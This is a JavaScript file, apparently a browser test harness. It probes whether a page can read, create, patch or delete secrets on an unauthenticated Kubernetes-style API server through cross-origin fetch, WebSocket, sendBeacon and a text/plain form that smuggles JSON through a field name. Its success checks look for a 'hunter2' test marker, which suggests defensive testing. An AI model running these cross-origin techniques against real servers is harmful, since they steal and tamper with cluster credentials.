// attack tries what a page can do to a server without authentication at host:port. What it has read
// is in window.loot, by the name of the attack.
window.loot = {};
window.attack = async function (at) {
  const secrets = `http://${at}/api/v1/namespaces/default/secrets`;
  const body = (name) => JSON.stringify({metadata: {name}, stringData: {planted: "value"}});
  const tried = async (name, attempt) => {
    try {
      const text = await attempt();
      if (text && text.includes("hunter2") || text && text.includes("aHVudGVyMg==")) window.loot[name] = text;
    } catch (refused) { /* by the browser, or by the server */ }
  };
  const read = async (path, options) => {
    const answer = await fetch(path, options);
    return answer.ok ? answer.text() : "";
  };
  const frame = () => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.querySelectorAll("iframe").length;
    document.documentElement.append(frame);
    return frame;
  };

  await tried("get", () => read(secrets));
  await tried("watch", async () => {
    const answer = await fetch(secrets + "?watch=1&timeoutSeconds=1");
    return answer.ok ? answer.text() : "";
  });
  await tried("socket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(`ws://${at}/api/v1/secrets?watch=1`);
    socket.onmessage = (message) => { resolve(message.data); socket.close(); };
    socket.onerror = reject;
    socket.onclose = () => resolve("");
  }));
  await tried("script", () => new Promise((resolve) => {
    const script = document.createElement("script");
    script.src = secrets;
    script.onload = script.onerror = () => resolve("");
    document.documentElement.append(script);
  }));

  // Writes whose answers cannot be read are writes all the same.
  await tried("untyped", () => read(secrets, {method: "POST", mode: "no-cors", body: new Blob([body("untyped")])}));
  await tried("buffer", () => read(secrets, {method: "POST", mode: "no-cors", body: new TextEncoder().encode(body("buffer"))}));
  await tried("plain", () => read(secrets, {method: "POST", mode: "no-cors", body: body("plain")}));
  await tried("beacon", async () => { navigator.sendBeacon(secrets, new Blob([body("beacon")])); });
  await tried("form", () => new Promise((resolve) => {
    const target = frame();
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: secrets, enctype: "text/plain", target: target.name});
    const field = document.createElement("input");
    // name=value is one JSON document
    field.name = '{"metadata":{"name":"form"},"stringData":{"a":"';
    field.value = '"}}';
    form.append(field);
    document.documentElement.append(form);
    target.onload = () => resolve("");
    form.submit();
    setTimeout(resolve, 1000);
  }));
  await tried("typed", () => read(secrets, {method: "POST", headers: {"Content-Type": "application/json"}, body: body("typed")}));
  await tried("patch", () => read(secrets + "/password", {
    method: "PATCH", headers: {"Content-Type": "application/merge-patch+json"}, body: '{"metadata":{"labels":{"a":"b"}}}',
  }));
  await tried("delete", () => read(secrets + "/password", {method: "DELETE"}));
  window.done = true;
};
